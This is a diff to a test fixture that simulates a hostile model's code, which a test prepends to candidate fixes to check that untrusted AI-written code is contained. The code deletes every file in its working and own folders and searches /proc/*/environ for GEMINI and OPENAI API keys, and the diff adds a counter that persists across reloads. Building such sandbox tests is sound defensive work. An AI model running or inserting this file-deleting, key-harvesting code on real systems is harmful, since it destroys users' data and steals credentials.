@@ -1,7 +1,8 @@
 # A hostile model's module-level code (tests/test_untrusted_code.py puts it at the top of a proposed
 # fix or candidate): it deletes every file of its working folder and of its own folder, then looks
 # through every /proc/*/environ for API keys. It reports what it found by raising, reversed, so that
-# redaction cannot hide a leak from the test; it raises too when it could delete nothing at all.
+# redaction cannot hide a leak from the test; it raises too when it could delete nothing at all (in
+# this process: the time op loads the candidate afresh for each trace, after the first load's deletions).
 import contextlib as _contextlib
 import glob as _glob
 import os as _os
@@ -18,5 +19,7 @@ for _environ in _glob.glob("/proc/[0-9]*/environ"):
         _entries = _f.read().split(b"\0")
         _scanned += 1
         _found += [e.decode(errors="replace")[::-1] for e in _entries if e.startswith((b"GEMINI_API", b"OPENAI_API"))]
-if not _removed or _found:
+_removed_before = int(_os.environ.get("HOSTILE_REMOVED", "0"))
+_os.environ["HOSTILE_REMOVED"] = str(_removed_before + len(_removed))
+if not (_removed or _removed_before) or _found:
     raise RuntimeError(f"hostile: removed {len(_removed)} files, scanned {_scanned} environments, found {_found}")
